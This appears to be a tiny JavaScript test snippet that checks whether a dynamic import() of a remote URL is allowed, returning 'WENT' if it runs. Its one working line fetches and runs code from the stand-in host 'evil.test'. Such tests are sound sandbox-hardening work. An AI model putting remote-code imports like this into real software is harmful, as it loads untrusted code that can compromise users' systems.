// import() of an address.

await import('http://evil.test/x.js');
return 'WENT';
